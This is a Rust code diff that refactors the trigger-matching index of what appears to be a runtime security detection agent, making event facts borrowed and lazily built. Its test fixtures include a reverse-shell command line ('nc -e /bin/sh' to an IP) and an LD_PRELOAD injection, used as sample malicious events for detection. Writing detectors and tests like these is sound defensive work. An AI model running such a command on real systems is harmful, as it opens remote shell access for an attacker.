@@ -8,7 +8,7 @@
 //! [`super::load::compile`] checks on the sample events that
 //! this test and the Rego one agree.
 
-use std::{borrow::Cow, collections::HashMap};
+use std::borrow::Cow;
 
 use serde_json::Value;
 
@@ -154,7 +154,7 @@ struct Compiled {
 /// Every rule's triggers, tested together: each name any trigger lists is
 /// numbered once, so an event's names are hashed once, not once per rule.
 pub struct TriggerIndex {
-    numbers: HashMap<String, usize>,
+    numbers: foldhash::HashMap<String, usize>,
     words: usize,
     /// Per rule, in the policy's rule order; `None`: no triggers.
     rules: Vec<Option<Vec<Compiled>>>,
@@ -163,7 +163,7 @@ pub struct TriggerIndex {
 impl TriggerIndex {
     pub fn new<'a>(rules: impl IntoIterator<Item = &'a Triggers>) -> Self {
         let rules: Vec<&Triggers> = rules.into_iter().collect();
-        let mut numbers = HashMap::new();
+        let mut numbers = foldhash::HashMap::default();
         let all_names = rules.iter().flat_map(|t| t.alternatives.iter().flatten());
         for alt in all_names {
             for name in alt.names.iter().chain(&alt.ancestors).flatten() {
@@ -199,8 +199,9 @@ impl TriggerIndex {
         Self { numbers, words, rules }
     }
 
-    /// What the triggers look at in `event`, computed once for all rules.
-    pub fn facts(&self, event: &(impl FactSource + ?Sized)) -> EventFacts {
+    /// What the triggers look at in `event`, computed once for all rules
+    /// (the text for substring triggers only when one asks for it).
+    pub fn facts<'a>(&self, event: &'a (impl FactSource + ?Sized)) -> EventFacts<'a> {
         let binary = event.binary();
         let filename = event.filename();
         let args = event.args();
@@ -212,22 +213,19 @@ impl TriggerIndex {
         for binary in event.ancestor_binaries() {
             self.mark(&mut ancestors, basename(&binary));
         }
-        let mut exec_paths = vec![binary.to_string(), filename.to_string()];
-        if !filename.is_empty() && !filename.starts_with('/') {
-            exec_paths.push(format!("{}/{filename}", event.cwd()));
-        }
-        let mut text = exec_paths.join("\n");
-        for line in [&args.join(" "), event.daddr()] {
-            text.push('\n');
-            text.push_str(line);
-        }
+        let joined = (!filename.is_empty() && !filename.starts_with('/'))
+            .then(|| Cow::Owned(format!("{}/{filename}", event.cwd())));
+        let mut exec_paths = vec![binary, filename];
+        exec_paths.extend(joined);
         EventFacts {
             names,
             env: event.env_names(),
             ancestors,
             exec_paths,
-            file_paths: event.file_paths().into_iter().map(Cow::into_owned).collect(),
-            text,
+            args,
+            daddr: event.daddr(),
+            file_paths: event.file_paths(),
+            text: std::cell::OnceCell::new(),
             lower_text: std::cell::OnceCell::new(),
             container: event.in_container(),
             drift: event.drifted(),
@@ -264,9 +262,9 @@ impl TriggerIndex {
                 && alt
                     .substrings
                     .as_ref()
-                    .is_none_or(|want| want.iter().any(|s| facts.text.contains(s.as_str())))
+                    .is_none_or(|want| want.iter().any(|s| facts.text().contains(s.as_str())))
                 && alt.lower_substrings.as_ref().is_none_or(|want| {
-                    let lower = facts.lower_text.get_or_init(|| facts.text.to_lowercase());
+                    let lower = facts.lower_text.get_or_init(|| facts.text().to_lowercase());
                     want.iter().any(|s| lower.contains(s.as_str()))
                 })
                 && alt.env.as_ref().is_none_or(|want| want.iter().any(|n| facts.env.contains(n)))
@@ -275,9 +273,10 @@ impl TriggerIndex {
 }
 
 /// What the triggers look at, computed once per event exactly as
-/// policies/lib/triggers.rego computes it.
+/// policies/lib/triggers.rego computes it; borrowed from the event where
+/// it can be.
 #[derive(Debug, PartialEq)]
-pub struct EventFacts {
+pub struct EventFacts<'a> {
     /// Trigger names that are the last `/` component of the binary, the
     /// filename or an argument.
     names: Bits,
@@ -286,16 +285,33 @@ pub struct EventFacts {
     /// The names of the captured environment variables.
     env: Vec<String>,
     /// binary, filename, and cwd + "/" + filename for a relative filename.
-    exec_paths: Vec<String>,
+    exec_paths: Vec<Cow<'a, str>>,
+    args: Vec<Cow<'a, str>>,
+    daddr: &'a str,
     /// A file event's path and new path.
-    file_paths: Vec<String>,
-    /// The exec paths, the command line and daddr, one per line.
-    text: String,
+    file_paths: Vec<Cow<'a, str>>,
+    /// The exec paths, the command line and daddr, one per line: made
+    /// when a substring trigger asks for it.
+    text: std::cell::OnceCell<String>,
     /// `text` lower-cased, made when a trigger asks for it.
     lower_text: std::cell::OnceCell<String>,
     container: bool,
     drift: bool,
     euid_raised: bool,
+}
+
+impl EventFacts<'_> {
+    /// The exec paths, the command line and daddr, one per line.
+    fn text(&self) -> &str {
+        self.text.get_or_init(|| {
+            let mut text = self.exec_paths.join("\n");
+            for line in [&self.args.join(" "), self.daddr] {
+                text.push('\n');
+                text.push_str(line);
+            }
+            text
+        })
+    }
 }
 
 /// What the trigger facts are read from: the agent's typed event, or an
@@ -438,6 +454,7 @@ mod tests {
     use serde_json::json;
 
     use super::*;
+    use crate::model::bytes::SharedBytes;
 
     /// Whether one rule with triggers `value` fires on `event`.
     fn fires(value: Value, event: &Value) -> bool {
@@ -478,8 +495,8 @@ mod tests {
         exec.process.euid = Some(0);
         exec.process.env = [("LD_PRELOAD".to_string(), bytes(b"/x.so"))].into();
         exec.process.ancestors = vec![
-            Ancestor { pid: 1, binary: bytes(b"/usr/sbin/nginx") },
-            Ancestor { pid: 2, binary: bytes(b"/x/\xffsshd") },
+            Ancestor { pid: 1, binary: SharedBytes(b"/usr/sbin/nginx"[..].into()) },
+            Ancestor { pid: 2, binary: SharedBytes(b"/x/\xffsshd"[..].into()) },
         ];
         exec.process.exe = Some(Executable {
             inode: 1,
@@ -549,7 +566,7 @@ mod tests {
         let index = TriggerIndex::new([]);
         let facts = index.facts(&nc);
         assert_eq!(facts.exec_paths, ["/bin/busybox", "/bin/busybox"]);
-        assert_eq!(facts.text, "/bin/busybox\n/bin/busybox\nnc -e /bin/sh 10.0.0.1\n");
+        assert_eq!(facts.text(), "/bin/busybox\n/bin/busybox\nnc -e /bin/sh 10.0.0.1\n");
         assert!(facts.euid_raised && !facts.container && !facts.drift);
 
         assert!(fires(json!([{"names": ["nc"]}]), &nc));
